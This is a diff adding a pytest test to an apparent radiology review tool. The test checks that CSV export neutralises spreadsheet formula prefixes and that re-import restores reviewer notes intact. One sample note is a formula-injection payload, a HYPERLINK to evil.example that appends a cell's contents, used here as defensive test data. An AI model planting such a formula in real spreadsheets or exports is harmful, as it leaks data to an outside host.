@@ -145,3 +145,28 @@ def test_model_uncertain_first(db, studies):
             db["predictions"].insert({"run_id": run, "image_id": image, "subset": "test", "label": 1, "probability": probability})
     queue = rv.review_queue(db, "ann", "uncertain")
     assert queue == [studies[1], studies[2], studies[0], *studies[3:]]  # margins 0.01, 0.3, 0.55, then unpredicted by id
+
+
+def test_csv_export_escapes_formulas_and_import_restores_them(db, studies, tmp_path):
+    """A note like =HYPERLINK(...) must not run in the spreadsheet, and must come back intact."""
+    from conftest import add_bare_studies
+
+    from bonescan_core import db as dbm
+
+    notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1", "-2 cm", "'quoted", "plain, text"]
+    for study, note in zip(studies, notes, strict=False):
+        rv.add_review(db, reading(study, "=ann" if study == studies[0] else "bob", "metastatic", note=note))
+    exported = tmp_path / "reviews.csv"
+    assert rv.export_reviews_csv(db, exported) == len(notes)
+    cells = [cell for row in csv.reader(exported.open(newline="")) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=ann" in cells and "'@SUM(A1:A9)" in cells
+
+    with dbm.opened(tmp_path / "other.db") as other:
+        add_bare_studies(other, len(studies))
+        result = rv.import_reviews_csv(other, exported)
+        assert (result.added, result.errors) == (len(notes), [])
+        fields = ("study_id", "reviewer", "note", "created_at", "decision", "label", "criteria")
+        imported = [{k: row[k] for k in fields} for s in studies for row in rv.history(other, s)]
+    original = [{k: row[k] for k in fields} for s in studies for row in rv.history(db, s)]
+    assert imported == original
